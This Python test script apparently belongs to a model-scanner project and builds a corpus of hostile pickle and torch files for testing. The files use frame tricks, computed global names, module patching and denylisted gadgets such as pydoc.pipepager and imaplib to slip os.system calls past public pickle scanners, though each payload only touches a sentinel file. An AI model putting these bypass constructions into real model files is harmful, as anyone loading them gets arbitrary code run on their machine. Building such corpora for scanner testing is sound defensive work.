#!/usr/bin/python3
"""Writes the scanner-bypass corpus into OUT_DIR (a temp folder: nothing here is committed).

    /usr/bin/python3 test/hostile/make_scanner_attacks.py OUT_DIR          # corpus + OUT_DIR/manifest.json
    /usr/bin/python3 test/hostile/make_scanner_attacks.py --prove OUT_DIR  # loads the live/ copies as a victim would

The classes are the tricks the public pickle scanners' advisories and test suites describe (picklescan, fickling,
modelscan, ModelAudit), each written here opcode by opcode with make_hostile.py's assembler:

  framing      an argument running past the end of its FRAME (CPython's file reader then drops the rest of the
               frame and reads the argument from after it: the zip sample hides os.system from a linear reader),
               a FRAME inside a frame, a frame longer than its pickle
  error-after  os.system runs, then the pickle breaks (torch.load raises after the payload ran)
  dynamic      STACK_GLOBAL of names computed at load time (str() call, memo, itemgetter), BUILD/SETITEM on a
               module (replacing torch._utils._rebuild_tensor_v2), SETITEM into sys.modules
  dotted       builtins.eval.__call__, torch.serialization + "os.system", _operator.attrgetter on a module reached
               by attribute, __builtins__, nt.system, torch.serialization.load of a nested payload
  denylist     one sample per family the scanners named as bypasses (uuid, pydoc, _osx_support, imaplib, logging
               handlers, ssl, test.support, lib2to3, sub-interpreters, _pyrepl, collect_env, bottleneck, datapipe
               decoders, torch.fx guards, torch._dynamo/_inductor, config modules, requests, aiohttp, cloudpickle, dill)
  advice       globals that are known data types (argparse.Namespace, collections.Counter) and unknown code

Every payload aims at its own sentinel file. manifest.json: [{name, class, container, file, sentinel, live,
liveFile, liveSentinel, offsets}] where `offsets` are the byte positions the expected reasons name.
"""
import json
import os
import pickle
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from make_hostile import Call, Global, Pickler, tensor_rebuild, torch_legacy, torch_zip  # noqa: E402


def sbu(text):
    data = text.encode()
    return b'\x8c' + bytes([len(data)]) + data


def frame(body):
    return b'\x95' + struct.pack('<Q', len(body)) + body


def touch_call(p, sentinel):
    """GLOBAL os.system('touch SENTINEL') REDUCE, left on the stack."""
    p.value(Call(Global('os', 'system'), 'touch ' + sentinel))


def p4(value):
    return Pickler(4, 'STACK_GLOBAL').dumps(value)


def body4(value):
    """Opcodes of `value` at protocol 4 without PROTO, FRAME or STOP."""
    p = Pickler(4, 'STACK_GLOBAL')
    p.value(value)
    return bytes(p.out)


# ---------------------------------------------------------------- framing


def frame_cross(sentinel):
    """A linear reader reads a string and skips a bytes blob; CPython's file reader (BytesIO, no peek: torch.load of a
    zip) drops the 2 bytes left in the frame, reads the string from after it and then runs the 'blob' as opcodes."""
    hidden = b'0' + b'cos\nsystem\n' + b'(' + b'V' + ('touch ' + sentinel).encode() + b'\n' + b'tR'
    assert len(hidden) < 128
    n = 40  # the string's length: its last two bytes open, for a linear reader, a SHORT_BINBYTES over `hidden`
    lead = b'\x80\x04'
    frame_body = b'N0' + b'\x8c' + bytes([n]) + b'ab'  # SHORT_BINUNICODE of 40 bytes, 2 of them in the frame
    after = b'x' * (n - 2) + b'C' + bytes([len(hidden)])
    tail = b'0' + b'N.'  # drop the top (linear reader: the blob; file reader: os.system's result), return None
    data = lead + frame(frame_body) + after + hidden + tail
    crossing_op = len(lead) + 9 + 2  # the SHORT_BINUNICODE opcode
    frame_end = len(lead) + 9 + len(frame_body)
    return data, {'opcode': crossing_op, 'frameEnd': frame_end, 'past': crossing_op + 2 + n - frame_end}


def frame_overlap(_sentinel):
    inner = frame(b'N.')
    outer_body = b'K\x01' + b'0' + inner
    data = b'\x80\x04' + b'\x95' + struct.pack('<Q', len(outer_body) + 5) + outer_body + b'\x00' * 5
    return data, {'opcode': 2 + 9 + 3, 'ahead': len(outer_body) + 5 - 3}


def frame_too_long(_sentinel):
    body = b'N.'
    data = b'\x80\x04' + b'\x95' + struct.pack('<Q', 64) + body + b'\x00' * 70
    return data, {'opcode': 2 + 9 + 1, 'past': 64 - 2}


# ---------------------------------------------------------------- errors after the payload


def error_after_global(sentinel, protocol=2):
    p = Pickler(protocol)
    touch_call(p, sentinel)
    head = bytes([0x80, protocol]) if protocol >= 2 else b''
    return head + bytes(p.out) + b'\xff', {'opcode': len(head) + len(p.out)}


def error_before_global(_sentinel):
    return b'\x80\x02\xff', {'opcode': 2}


# ---------------------------------------------------------------- dynamic names


def computed_by_call(sentinel):
    """STACK_GLOBAL(str('os'), 'system'): the module is the result of a harmless-looking builtins.str call."""
    module = body4(Call(Global('builtins', 'str'), 'os'))
    data = b'\x80\x04' + frame(module + sbu('system') + b'\x93' + body4(('touch ' + sentinel,)) + b'R.')
    return data, {'opcode': 2 + 9 + len(module) + len(sbu('system'))}


def computed_through_memo(sentinel):
    """The computed module name is memoized and read back before STACK_GLOBAL (picklescan treats memo reads as literals)."""
    module = body4(Call(Global('builtins', 'str'), 'os')) + b'\x94' + b'0' + b'h\x00'  # MEMOIZE, POP, BINGET 0
    data = b'\x80\x04' + frame(module + sbu('system') + b'\x93' + body4(('touch ' + sentinel,)) + b'R.')
    return data, {'opcode': 2 + 9 + len(module) + len(sbu('system'))}


def computed_by_itemgetter(sentinel):
    module = body4(Call(Call(Global('operator', 'itemgetter'), 0), ('os',)))
    data = b'\x80\x04' + frame(module + sbu('system') + b'\x93' + body4(('touch ' + sentinel,)) + b'R.')
    return data, {'opcode': 2 + 9 + len(module) + len(sbu('system'))}


def build_on_module(sentinel):
    """BUILD on the torch._utils module replaces _rebuild_tensor_v2 with os.system (named through a computed
    STACK_GLOBAL), then calls torch._utils._rebuild_tensor_v2('touch …'): the call every tensor makes."""
    computed = body4(Call(Global('builtins', 'str'), 'os')) + sbu('system') + b'\x93'
    lead = sbu('torch') + sbu('_utils') + b'\x93' + b'}' + sbu('_rebuild_tensor_v2')
    replace = lead + computed + b's' + b'b' + b'0'
    call = body4(Call(Global('torch._utils', '_rebuild_tensor_v2'), 'touch ' + sentinel))
    data = b'\x80\x04' + frame(replace + call + b'.')
    base = 2 + 9
    return data, {'opcode': base + len(lead) + len(computed) - 1, 'build': base + len(replace) - 2}


def setitem_sys_modules(sentinel):
    """sys.modules['torch._utils'] = os: later imports of torch._utils get os (sys is on every denylist too)."""
    p = Pickler(2)
    p.global_(Global('sys', 'modules'))
    p.string('json')
    p.value(Call(Global('builtins', 'str'), 'x'))
    at = len(p.out) + 2
    p.out += b's0N.'
    _ = sentinel
    return bytes([0x80, 2]) + bytes(p.out), {'setitem': at}


# ---------------------------------------------------------------- dotted and aliased names


def stack_global_call(module, name, *args):
    return b'\x80\x04' + frame(sbu(module) + sbu(name) + b'\x93' + body4(tuple(args)) + b'R.')


def dotted_eval_call(sentinel):
    return stack_global_call('builtins', 'eval.__call__', 'open(%r, "w").close()' % sentinel), {}


def dotted_module_attribute(sentinel):
    return stack_global_call('torch.serialization', 'os.system', 'touch ' + sentinel), {}


def alias_operator_attrgetter(sentinel):
    """_operator.attrgetter('system')(torch.serialization.os)('touch …'): the os module reached as an attribute."""
    os_module = Global('torch.serialization', 'os')
    return p4(Call(Call(Call(Global('_operator', 'attrgetter'), 'system'), os_module), 'touch ' + sentinel)), {}


def dunder_builtins(sentinel):
    return stack_global_call('__builtins__', 'eval', 'open(%r, "w").close()' % sentinel), {}


def alias_nt(sentinel):
    return Pickler(2).dumps(Call(Global('nt', 'system'), 'touch ' + sentinel)), {}


def nested_torch_load(sentinel):
    """torch.serialization.load (torch.load under its defining module) of a nested torch zip whose pickle runs os.system."""
    nested = sentinel[:-len('.ran')] + '.nested.pth'
    with open(nested, 'wb') as f:
        f.write(torch_zip(Pickler(2).dumps(Call(Global('os', 'system'), 'touch ' + sentinel))))
    return Pickler(2).dumps(Call(Global('torch.serialization', 'load'), nested)), {}


# ---------------------------------------------------------------- denylist families


def family(module, name, *args):
    return lambda sentinel: (Pickler(2).dumps(Call(Global(module, name), *[a.replace('SENTINEL', sentinel) if isinstance(a, str) else a for a in args])), {})


DENYLIST_FAMILIES = {
    # (module, name, args, live here)
    'uuid-command': ('uuid', '_get_command_stdout', ('touch', 'SENTINEL'), True),
    'pydoc-pipepager': ('pydoc', 'pipepager', ('', 'touch SENTINEL'), True),
    'osx-support-read-output': ('_osx_support', '_read_output', ('touch SENTINEL',), True),
    'aix-support': ('_aix_support', '_aix_tag', (), False),
    'imaplib-stream': ('imaplib', 'IMAP4_stream', ('touch SENTINEL',), True),
    'logging-filehandler': ('logging', 'FileHandler', ('SENTINEL',), True),
    'logging-handlers': ('logging.handlers', 'RotatingFileHandler', ('SENTINEL',), True),
    'ssl-certificate': ('ssl', 'get_server_certificate', (('127.0.0.1', 9),), False),
    'test-support-script': ('test.support.script_helper', 'assert_python_ok', ('-c', 'open("SENTINEL", "w").close()'), True),
    'lib2to3-grammar': ('lib2to3.pgen2.grammar', 'Grammar', (), False),
    'subinterpreter-run': ('_xxsubinterpreters', 'run_string', (Call(Global('_xxsubinterpreters', 'create')), 'open("SENTINEL", "w").close()'), True),
    'pyrepl-pager': ('_pyrepl.pager', 'pipe_pager', ('', 'touch SENTINEL'), False),
    'torch-collect-env': ('torch.utils.collect_env', 'run', ('touch SENTINEL',), True),
    'torch-bottleneck': ('torch.utils.bottleneck.__main__', 'run_cprofile', ('open("SENTINEL", "w").close()', {}), True),
    'torch-fx-guards': ('torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression', ('x',), False),
    'torch-dynamo-guards': ('torch._dynamo.guards', 'GuardBuilder.get', ('x',), False),
    'torch-inductor-compile': ('torch._inductor.codecache', 'compile_file', ('', '', ('sh', '-c', 'touch SENTINEL')), False),
    'torch-config-module': ('torch.utils._config_module', 'ConfigModule.load_config', (b'x',), False),
    'torch-jit-exec-wrapper': ('torch.jit.unsupported_tensor_ops', 'execWrapper', ('open("SENTINEL", "w").close()', {}, {}), True),
    'requests-get': ('requests.api', 'get', ('http://127.0.0.1:9/',), False),
    'aiohttp-request': ('aiohttp', 'request', ('GET', 'http://127.0.0.1:9/'), False),
    'cloudpickle-subimport': ('cloudpickle.cloudpickle', 'subimport', ('os',), False),
    'dill-loads': ('dill', 'loads', (b'x',), False),
    'operator-methodcaller': ('operator', 'methodcaller', ('system', 'touch SENTINEL'), False),
}


def datapipe_decoder(sentinel):
    """basichandlers('pickle', bytes) is pickle.loads: the nested pickle runs os.system."""
    nested = Pickler(2).dumps(Call(Global('os', 'system'), 'touch ' + sentinel))
    return Pickler(3).dumps(Call(Global('torch.utils.data.datapipes.utils.decoder', 'basichandlers'), 'pickle', nested)), {}


# ---------------------------------------------------------------- advice: data types and unknown code


def data_types(_sentinel):
    return Pickler(2).dumps({'args': Call(Global('argparse', 'Namespace')), 'counts': Call(Global('collections', 'Counter'))}), {}


def unknown_code(sentinel):
    return Pickler(2).dumps({'hook': Call(Global('trainer_callbacks', 'OnLoad'), sentinel), 'args': Call(Global('argparse', 'Namespace'))}), {}


# ---------------------------------------------------------------- corpus


def samples():
    """name -> (class, containers, builder(sentinel) -> (pickle bytes, offsets), live)."""
    out = {
        'frame-cross': ('framing', ('zip', 'raw'), frame_cross, True),
        'frame-overlap': ('framing', ('zip', 'raw'), frame_overlap, False),
        'frame-too-long': ('framing', ('zip', 'raw'), frame_too_long, False),
        'error-after-global': ('error-after', ('zip', 'legacy', 'raw'), error_after_global, True),
        'error-after-global-p0': ('error-after', ('raw',), lambda s: error_after_global(s, 0), True),
        'error-before-global': ('error-after', ('zip', 'raw'), error_before_global, False),
        'computed-by-call': ('dynamic', ('zip', 'raw'), computed_by_call, True),
        'computed-through-memo': ('dynamic', ('zip', 'raw'), computed_through_memo, True),
        'computed-by-itemgetter': ('dynamic', ('zip', 'raw'), computed_by_itemgetter, True),
        'build-on-module': ('dynamic', ('zip', 'raw'), build_on_module, True),
        'setitem-sys-modules': ('dynamic', ('zip', 'raw'), setitem_sys_modules, False),
        'dotted-eval-call': ('dotted', ('zip', 'raw'), dotted_eval_call, True),
        'dotted-module-attribute': ('dotted', ('zip', 'raw'), dotted_module_attribute, True),
        'alias-operator-attrgetter': ('dotted', ('zip', 'raw'), alias_operator_attrgetter, True),
        'dunder-builtins': ('dotted', ('zip', 'raw'), dunder_builtins, False),
        'alias-nt': ('dotted', ('zip', 'raw'), alias_nt, False),
        'nested-torch-load': ('dotted', ('zip', 'raw'), nested_torch_load, True),
        'datapipe-decoder': ('denylist', ('zip', 'raw'), datapipe_decoder, True),
        'data-types': ('advice', ('zip', 'raw'), data_types, False),
        'unknown-code': ('advice', ('zip', 'raw'), unknown_code, False),
    }
    for name, (module, attr, args, live) in DENYLIST_FAMILIES.items():
        out[name] = ('denylist', ('zip', 'raw'), family(module, attr, *args), live)
    return out


def container(kind, pickled):
    """The payload pickle as a raw pickle, as data.pkl of a torch zip (beside a real storage) or a legacy object pickle."""
    if kind == 'raw':
        return pickled
    if kind == 'zip':
        return torch_zip(pickled)
    return torch_legacy(pickled, 2)


def write_corpus(out):
    manifest = []
    for folder in (out, os.path.join(out, 'live')):
        os.makedirs(folder, exist_ok=True)
        for name, (cls, containers, build, live) in samples().items():
            for kind in containers:
                stem = '%s-%s' % (name, kind)
                sentinel = os.path.join(folder, stem + '.ran')
                pickled, offsets = build(sentinel)
                file = os.path.join(folder, stem + ('.pkl' if kind == 'raw' else '.pth'))
                with open(file, 'wb') as f:
                    f.write(container(kind, pickled))
                if folder == out:
                    manifest.append({'name': name, 'class': cls, 'container': kind, 'file': file, 'sentinel': sentinel,
                                     'live': live, 'offsets': offsets,
                                     'liveFile': os.path.join(out, 'live', os.path.basename(file)),
                                     'liveSentinel': os.path.join(out, 'live', os.path.basename(sentinel))})
    with open(os.path.join(out, 'manifest.json'), 'w') as f:
        json.dump(manifest, f, indent=1)
    return manifest


def prove(out):
    """Loads each live copy as a victim would, one forked child each: torch.load for torch files, and for raw pickles
    pickle.load of an io.BytesIO (the file object torch.load itself reads data.pkl through)."""
    import io
    import signal
    import time
    import torch
    with open(os.path.join(out, 'manifest.json')) as f:
        manifest = json.load(f)
    ran = {}
    for item in manifest:
        if not item['live']:
            continue
        pid = os.fork()
        if pid == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            signal.alarm(30)
            try:
                if item['container'] == 'raw':
                    with open(item['liveFile'], 'rb') as f:
                        pickle.load(io.BytesIO(f.read()))
                else:
                    torch.load(item['liveFile'])
            except BaseException:
                pass
            time.sleep(0.2)  # pagers and shells may finish just after the call returns
            os._exit(0)
        os.waitpid(pid, 0)
        ran[os.path.basename(item['file'])] = os.path.exists(item['liveSentinel'])
    print(json.dumps(ran))


if __name__ == '__main__':
    if sys.argv[1] == '--prove':
        prove(sys.argv[2])
    else:
        print(json.dumps(len(write_corpus(sys.argv[1]))))
